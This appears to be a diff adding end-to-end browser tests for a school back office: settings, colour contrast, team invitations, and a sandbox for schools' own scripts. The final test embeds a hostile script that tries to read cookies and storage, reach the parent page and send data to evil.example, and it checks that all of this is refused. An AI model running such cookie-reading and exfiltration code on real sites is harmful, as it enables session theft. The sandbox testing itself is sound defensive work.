@@ -1,0 +1,193 @@
+import type { Page } from 'playwright-core'
+import { describe } from 'vitest'
+import { expect, test } from './browser.ts'
+import { words } from './words.ts'
+
+type Mail = { to: string; text: string }
+
+async function logIn(page: Page, email = 'owner@demo.test', password = 'demo-password'): Promise<void> {
+  await page.goto('/login')
+  await page.fill('[name=email]', email)
+  await page.fill('[name=password]', password)
+  await page.locator('main button[type=submit]').click()
+  await page.waitForURL((url) => url.pathname !== '/login')
+}
+
+async function post(page: Page, path: string, data: object): Promise<void> {
+  const { token } = (await (await page.request.get('/csrf')).json()) as { token: string }
+  const headers = { 'x-csrf-token': token, accept: 'application/json' }
+  const answer = await page.request.post(path, { headers, data })
+  expect(answer.ok(), await answer.text()).toBe(true)
+}
+
+describe.each(['en-GB', 'pl-PL'])('the back office (%s)', (locale) => {
+  const t = words(locale)
+
+  test('settings are found by search, refused at the field, saved in place and written down', async ({ open }) => {
+    const page = await open({ locale })
+    await logIn(page)
+    await page.goto(`/home/team?lang=${locale.slice(0, 2)}`, { waitUntil: 'networkidle' })
+    await page.keyboard.press('/')
+    await page.keyboard.type(t('ui', 'place_settings').slice(0, 4))
+    await page.keyboard.press('Enter')
+    await page.waitForURL('**/home/settings')
+
+    const vat = page.getByLabel(t('schools', 'vat_id'))
+    const saveCompany = page.locator('#company').getByRole('button', { name: t('schools', 'save') })
+    const before = await vat.inputValue()
+    await vat.fill('PL 12/34')
+    await page.getByLabel(t('schools', 'city')).fill('Zgierz')
+    await saveCompany.click()
+    await page.getByText(t('schools', 'vat_number')).first().waitFor()
+    expect(await vat.evaluate((field) => field === document.activeElement)).toBe(true)
+    expect(await page.getByLabel(t('schools', 'city')).inputValue()).toBe('Zgierz')
+    expect(new URL(page.url()).pathname).toBe('/home/settings')
+
+    await vat.fill(before)
+    await saveCompany.click()
+    await page.getByText(t('schools', 'saved'), { exact: true }).first().waitFor()
+    await page
+      .getByRole('cell', { name: t('schools', 'field_seller') })
+      .first()
+      .waitFor()
+    await page.reload()
+    expect(await page.getByLabel(t('schools', 'city')).inputValue()).toBe('Zgierz')
+  })
+
+  test('a colour is shown at once and kept, and text on it stays readable', async ({ open }) => {
+    const page = await open({ locale })
+    await logIn(page)
+    await page.goto('/home/settings', { waitUntil: 'networkidle' })
+    const before = await page.inputValue('[name=brand_hue]')
+    await page.fill('input[type=color]', locale === 'en-GB' ? '#ffe600' : '#7dff3a')
+    const shown = page.locator('.preview .btn').first()
+    await page.waitForFunction(
+      (hue) => document.querySelector<HTMLInputElement>('[name=brand_hue]')?.value !== hue,
+      before,
+    )
+    expect(await contrastOf(shown)).toBeGreaterThan(4.5)
+    await page
+      .locator('#brand')
+      .getByRole('button', { name: t('schools', 'save') })
+      .click()
+    await page.getByText(t('schools', 'saved'), { exact: true }).first().waitFor()
+    const other = await open({ locale })
+    await other.goto('/login')
+    expect(await contrastOf(other.locator('main button[type=submit]'))).toBeGreaterThan(4.5)
+  })
+
+  test('the owner invites somebody, who makes an account by the link and finds the back office', async ({ open }) => {
+    const owner = await open({ locale })
+    await logIn(owner)
+    await owner.goto('/home/team')
+    const email = `colleague-${locale.toLowerCase()}-${Date.now()}@example.com`
+    await owner.getByLabel(t('accounts', 'email'), { exact: true }).fill(email)
+    await owner.locator('select[name=locale]').selectOption(locale.slice(0, 2))
+    await owner.locator('form[action="/home/team/invitations"] select[name=role]').selectOption('administrator')
+    await owner.getByRole('button', { name: t('accounts', 'invite_button') }).click()
+    await owner.getByRole('cell', { name: email }).waitFor()
+
+    const link = await linkFor(owner, email)
+    const colleague = await open({ locale })
+    await colleague.goto(link)
+    await colleague.getByLabel(t('accounts', 'first_name')).fill('Łucja')
+    await colleague.locator('[name=password]').fill('three quiet foxes')
+    await colleague.getByRole('button', { name: t('accounts', 'invitation_register') }).click()
+    await colleague.waitForURL('**/home')
+    await colleague.goto('/home/settings')
+    await colleague.getByRole('heading', { level: 1, name: t('schools', 'settings') }).waitFor()
+    expect((await colleague.goto('/home/team'))?.status()).toBe(403)
+
+    await owner.goto('/home/team')
+    const row = owner.locator('tr', { hasText: email })
+    await row.getByRole('button', { name: t('accounts', 'remove') }).click()
+    await owner
+      .getByRole('alertdialog')
+      .getByRole('button', { name: t('accounts', 'remove') })
+      .click()
+    await row.waitFor({ state: 'detached' })
+    expect((await colleague.goto('/home/settings'))?.url()).toContain('/login')
+  })
+})
+
+/** The link of the newest e-mail to an address, once the worker has written it. */
+async function linkFor(page: Page, email: string): Promise<string> {
+  for (;;) {
+    const answer = await page.request.get('/dev/mail', { headers: { accept: 'application/json' } })
+    const mail = ((await answer.json()) as Mail[]).find(({ to }) => to === email)
+    const [link] = /http:\/\/\S+\/invitation\/[\w-]{43}/.exec(mail?.text ?? '') ?? []
+    if (link) return link
+    await page.waitForTimeout(100)
+  }
+}
+
+/** The contrast of an element's text with its fill, as WCAG counts it, in the colours that the browser painted. */
+function contrastOf(element: ReturnType<Page['locator']>): Promise<number> {
+  return element.evaluate((node) => {
+    const { color, backgroundColor } = getComputedStyle(node)
+    const canvas = document.createElement('canvas').getContext('2d', { willReadFrequently: true })
+    const luminance = (painted: string) => {
+      if (!canvas) return 0
+      canvas.fillStyle = painted
+      canvas.fillRect(0, 0, 1, 1)
+      const [r = 0, g = 0, b = 0] = [...canvas.getImageData(0, 0, 1, 1).data].map((channel) => {
+        const value = channel / 255
+        return value <= 0.04045 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4
+      })
+      return 0.2126 * r + 0.7152 * g + 0.0722 * b
+    }
+    const [light = 0, dark = 0] = [luminance(color), luminance(backgroundColor)].sort((a, b) => b - a)
+    return (light + 0.05) / (dark + 0.05)
+  })
+}
+
+/** What a hostile script would try, and a report of how it went. */
+const HOSTILE = `
+const tried = {}
+function attempt(name, work) {
+  try { tried[name] = String(work()) } catch { tried[name] = 'refused' }
+}
+attempt('cookie', () => document.cookie)
+attempt('storage', () => localStorage.length)
+attempt('page', () => parent.document.title)
+attempt('navigation', () => { top.location = 'https://evil.example/' })
+attempt('popup', () => window.open('https://evil.example/'))
+addEventListener('message', async ({ data }) => {
+  if (data.type !== 'page_view') return
+  const call = (options) => fetch(new URL('/me', 'ORIGIN'), options).then((answer) => answer.text(), () => 'refused')
+  const fetched = await call({ credentials: 'include' })
+  const sent = await fetch('https://evil.example/').then(() => 'sent', () => 'refused')
+  parent.postMessage({ type: 'report', tried, fetched, sent, origin, view: data }, '*')
+})`
+
+test('a school’s own script learns which page is seen and reaches nothing else', async ({ open }) => {
+  const owner = await open()
+  await logIn(owner)
+  await owner.goto('/home/settings/scripts')
+  const version = Number(await owner.inputValue('[name=version]'))
+  const code = HOSTILE.replace('ORIGIN', new URL(owner.url()).origin)
+  await post(owner, '/home/settings/scripts', { version, code, pages: ['product'], hosts: [] })
+  // Not watched for errors: this page logs each refusal.
+  const page = await owner.context().newPage()
+  await page.addInitScript(() => {
+    addEventListener('message', ({ data }) => {
+      if (data.type === 'report') Object.assign(globalThis, { report: data })
+    })
+  })
+  await page.goto('/demo-course')
+  await page.waitForFunction(() => 'report' in globalThis)
+  const report = await page.evaluate(() => (globalThis as unknown as { report: unknown }).report)
+  expect(report).toMatchObject({
+    tried: { cookie: 'refused', storage: 'refused', page: 'refused' },
+    fetched: 'refused',
+    sent: 'refused',
+    origin: 'null',
+    view: { page: 'product', path: '/demo-course', locale: expect.stringMatching(/en|pl/) },
+  })
+  expect(new URL(page.url()).pathname).toBe('/demo-course')
+  expect(page.context().pages()).toHaveLength(2)
+  await page.goto('/demo-course/checkout')
+  expect(await page.locator('iframe').count()).toBe(0)
+  await page.close()
+  await post(owner, '/home/settings/scripts/stop', {})
+})
